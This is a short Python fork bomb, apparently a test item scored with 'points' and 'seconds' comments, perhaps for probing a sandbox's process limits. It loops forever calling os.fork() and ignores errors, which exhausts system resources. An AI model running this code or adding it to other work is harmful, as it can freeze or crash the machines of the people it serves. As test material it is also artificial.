# Forks without end.
# points: 0
# seconds: 12
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
